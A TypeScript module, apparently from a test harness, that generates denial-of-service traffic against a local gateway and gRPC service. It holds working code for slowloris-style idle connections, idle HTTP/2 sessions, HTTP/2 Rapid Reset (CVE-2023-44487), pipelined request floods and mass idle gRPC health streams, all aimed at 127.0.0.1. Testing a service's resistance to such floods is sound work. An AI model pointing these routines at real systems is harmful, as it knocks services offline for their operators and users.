import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import type { Running } from './flood.ts';
import { preface, resetCalls } from './frames.ts';

const attackerAddress = '127.0.0.2';

/**
 * Connections to the gateway that send the head of a request and nothing more, opened again when
 * they are closed.
 */
export function idleSockets(baseUrl: string, count: number): Running {
  const head = 'POST /api/contacts.upsert HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{';
  return sockets(Number(new URL(baseUrl).port), { count, text: head, againMs: 1_000 });
}

/** Connections to a gRPC port that begin HTTP/2 and do nothing more. */
export function idleSessions(port: number, count: number): Running {
  return sockets(port, { count, text: preface, againMs: 1_000 });
}

/**
 * Rapid reset (CVE-2023-44487): connections that send calls and cancel them at once, as fast as
 * they are taken.
 */
export function rapidResets(port: number, path: string, count: number): Running {
  const text = Buffer.concat([preface, resetCalls(path, 5_000)]);
  return sockets(port, { count, text, againMs: 1 });
}

/**
 * Connections that send several requests without waiting for an answer, and are closed after the
 * last.
 */
export function pipelinedGets(
  port: number,
  path: string,
  { count, each }: { count: number; each: number },
): Running {
  const get = `GET ${path} HTTP/1.1\r\nhost: x\r\n`;
  const text = `${`${get}\r\n`.repeat(each - 1)}${get}connection: close\r\n\r\n`;
  return sockets(port, { count, text, againMs: 1 });
}

type Sent = { count: number; text: string | Buffer; againMs: number };

/**
 * Connections that send something, opened again when they are closed. The tally counts how often.
 */
function sockets(port: number, { count, text, againMs }: Sent): Running {
  let isStopped = false;
  const tally = new Map<number, number>();
  const open = new Set<ReturnType<typeof connect>>();
  const begin = () => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: attackerAddress });
    open.add(socket);
    socket.on('error', () => {}).resume();
    socket.once('connect', () => socket.write(text));
    socket.once('close', () => {
      open.delete(socket);
      if (isStopped) return;
      tally.set(0, (tally.get(0) ?? 0) + 1);
      setTimeout(begin, againMs).unref();
    });
  };
  for (let each = 0; each < count; each += 1) begin();
  return {
    tally,
    async stop() {
      isStopped = true;
      for (const socket of open) socket.destroy();
    },
  };
}

/** Watches of a service's health over one connection, as many as it takes. */
export function idleStreams(port: number, count: number): Running {
  const session = connectHttp2(`http://127.0.0.1:${port}`);
  session.on('error', () => {});
  session.once('connect', () => {
    for (let each = 0; each < count && !session.destroyed; each += 1) {
      const stream = session.request({
        ':method': 'POST',
        ':path': '/grpc.health.v1.Health/Watch',
        'content-type': 'application/grpc',
        te: 'trailers',
      });
      stream.on('error', () => {});
      stream.resume().write(Buffer.alloc(5));
    }
  });
  return {
    tally: new Map(),
    async stop() {
      session.destroy();
    },
  };
}
